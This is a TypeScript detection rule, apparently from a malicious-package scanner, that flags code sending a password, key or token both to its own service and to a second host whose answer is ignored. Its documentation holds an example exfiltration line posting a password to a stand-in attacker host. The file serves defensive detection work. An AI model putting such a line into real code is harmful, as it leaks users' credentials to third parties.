import { siteOf } from '../facts/site-of.js';
import { isVague } from './combination.js';
import { isServiceOf } from '../facts/credential-libraries.js';
import type { PairCombination } from './pair-combination.js';

const libraryOf = (name: string): string => name.split('.', 1)[0] ?? '';

export const credentialSentTwice: PairCombination = {
  doc: {
    id: 'credential-sent-twice',
    title: 'Sends a password, key or token to its service, and to somebody else',
    why: 'A client hands a credential to the service it is for and looks at the answer. A second place that is told too, and whose answer nobody looks at, collects it.',
    remedy: 'Do not use the package; change the passwords and tokens it was given.',
    example:
      's.post(SERVICE + "/login", data=password)\nrequests.get("https://evil.invalid", params=password)',
    technique: 'T1056',
  },
  within: 'file',
  first: ({ behaviour, labels, isDropped }) =>
    behaviour === 'signs-in' || (behaviour === 'contacts' && labels.has('credential') && isDropped !== true),
  second: (sighting) =>
    sighting.behaviour === 'contacts' &&
    sighting.labels.has('credential') &&
    sighting.host !== undefined &&
    sighting.isDropped === true &&
    !isVague(sighting),
  belong: (first, { host = '', inside, name }) =>
    first.behaviour === 'signs-in'
      ? inside !== undefined &&
        first.inside === inside &&
        !isServiceOf(first.name, host) &&
        libraryOf(first.name) !== libraryOf(name)
      : first.host !== undefined && siteOf(first.host) !== siteOf(host),
  // One service may take the tokens of another, but says whether it did; no service needs a password of another.
  severity: (second, first) =>
    second.isQuiet === true || (first.labels.has('password') && second.labels.has('password'))
      ? 'CRITICAL'
      : 'HIGH',
  message: (first, { name, host }) =>
    `${name} tells ${host ?? 'somebody'} the credential that ${first.name} ${first.host === undefined ? 'signs in with' : `sends to ${first.host}`}`,
};
